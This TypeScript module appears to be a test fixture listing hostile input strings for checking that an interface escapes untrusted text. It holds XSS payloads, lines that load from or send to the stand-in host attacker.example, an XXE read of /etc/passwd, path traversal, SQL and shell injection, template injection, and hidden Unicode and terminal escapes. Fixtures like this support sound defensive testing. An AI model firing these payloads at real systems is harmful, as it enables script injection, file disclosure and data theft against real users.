// Hostile texts, which browsers, templates, terminals or programs might take for code or commands.

/** Markup. A success would show itself by a dialog, by an element that the page never uses, or by a request. */
export const markup: readonly string[] = [
  `<script>alert('script')</script>`,
  `<ScRiPt src="http://attacker.example/x.js"></sCrIpT>`,
  `<img src=x onerror=alert('image')>`,
  `<img src="http://attacker.example/seen.png" alt="">`,
  `<svg/onload=alert('svg')><animate onbegin=alert(1) attributeName=x></svg>`,
  `<math><mtext><x-hostile onfocus=alert('math') tabindex=0 autofocus>`,
  `<iframe srcdoc="<script>parent.alert('frame')</script>"></iframe>`,
  `<object data="javascript:alert('object')"></object><embed src="javascript:alert(1)">`,
  `<style>* { display: none !important } @import url(http://attacker.example/x.css)</style>`,
  `<link rel=stylesheet href="http://attacker.example/x.css"><base href="http://attacker.example/">`,
  `<meta http-equiv="refresh" content="0;url=http://attacker.example/">`,
  `<form action="http://attacker.example/"><button formaction="javascript:alert('form')">Approve</button></form>`,
  `<details open ontoggle=alert('details')><summary>more</summary></details>`,
  `<video><source onerror=alert('source')></video><audio src=x onerror=alert('audio')></audio>`,
  `<a href="javascript:alert('link')">Click me</a>`,
  `"><x-hostile onmouseover="alert('quoted')">`,
  `'><x-hostile onmouseover='alert("single")'>`,
  '`><x-hostile onmouseover=alert`backtick`>',
  `</textarea></title></style></script></noscript><x-hostile onclick=alert('closed')>`,
  `--><!-- <x-hostile> --!><x-hostile>`,
  `<![CDATA[<x-hostile>]]><?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;`,
  `&lt;x-hostile&gt; &#60;x-hostile&#62; &#x3c;x-hostile&#x3e; &amp;lt;x-hostile&amp;gt;`,
  `\\u003cx-hostile\\u003e \\x3cx-hostile\\x3e %3Cx-hostile%3E +ADw-x-hostile+AD4-`,
  `<x-hostile\u0000 on\u0000click=alert('nulls')>`,
  `<<x-hostile>>< x-hostile></x-hostile`,
]

/** Texts that other programs would run, fill in, or follow. */
export const programs: readonly string[] = [
  `javascript:alert('address')`,
  `JaVaScRiPt\t:alert('tab')//`,
  `data:text/html,<script>alert('data')</script>`,
  `vbscript:msgbox(1)`,
  `//attacker.example/without-scheme`,
  `#/approvals?show=always`,
  `../../../etc/passwd%00.png`,
  `{{constructor.constructor('alert("template")')()}} \${alert(1)} <%= alert(1) %> #{alert(1)} [[\${alert(1)}]]`,
  `'; DROP TABLE audit; --`,
  `" OR 1=1 -- %' _`,
  `$(touch /tmp/hostile) ; \`touch /tmp/hostile\` | cat`,
  `=HYPERLINK("http://attacker.example","Approve")`,
  `%s%s%n%x \\n\\r\\0`,
]

/** Names with a meaning for programs. */
export const names: readonly string[] = [
  ...['__proto__', 'constructor', 'prototype', 'toString', 'valueOf', 'hasOwnProperty', 'then', 'toJSON', 'length', '__html'],
  ...['null', 'undefined', 'NaN', 'true', 'false', '[object Object]', '-0', '1e999', '0x10', 'None', 'nil', '{}', '[]'],
]

/** Texts with hidden characters, with changes of direction, and with characters that move their neighbours. */
export const unseen: readonly string[] = [
  'pay \u202e0001\u202c euros',
  'isolated \u2066\u2067left\u2069\u2069 and marks \u200e\u200f\u061c',
  'zero\u200bwidth\u200cand\u200djoined\u2060\ufeff',
  'tags \u{e0049}\u{e0067}\u{e006e}\u{e006f}\u{e0072}\u{e0065} that a model reads',
  'forms \ufe0e\ufe0f\u{e0100} soft\u00adhyphen \u3164filler\u115f',
  'terminal \u001b[2J\u001b[31mred\u001b]8;;http://attacker.example\u0007link\u0007\u009b1m',
  'bell\u0007 back\b\b\bspace delete\u007f vertical\u000b form\u000c next\u0085',
  'carriage\rreturn and line\u2028separator paragraph\u2029separator',
  'private \ue000 none \uffff own \u{10ffff}',
]

/** Texts that are hard to lay out or to read. */
export const odd: readonly string[] = [
  'w'.repeat(600),
  `https://long.example/${'segment/'.repeat(60)}`,
  `Z\u0351\u036b\u0343${'\u0321\u0489\u0334'.repeat(30)}algo`,
  'שלום עולם, مرحبا بالعالم, mixed with English',
  '田中さんにあげて下さい 𠜎𠜱𠝹 ﷽ 👩‍👩‍👧‍👦 🏳️‍🌈 ᚠᛇᚻ',
  'Ａｐｐｒｏｖｅ раураl ⁦ 𝐀𝐩𝐩𝐫𝐨𝐯𝐞 ℋ',
  '   ',
  '"quotes" \'single\' `back` \\ / | & < > ; = # % ~ ^',
]

export const all: readonly string[] = [...markup, ...programs, ...names, ...unseen, ...odd]

/** A text for a field without hidden characters, which the name of a caller may not have. */
export const hostileName = (field: string): string => `${field} <x-hostile onclick=alert('${field}')><img src=x onerror=alert(1)>`

/** A text for a field. The text names the field. */
export const hostile = (field: string): string => `${hostileName(field)}\u202e\u200b`

/** The visible form of `hostile`. */
export const seen = (field: string): string => `${hostileName(field)}⟨U+202E⟩⟨U+200B⟩`
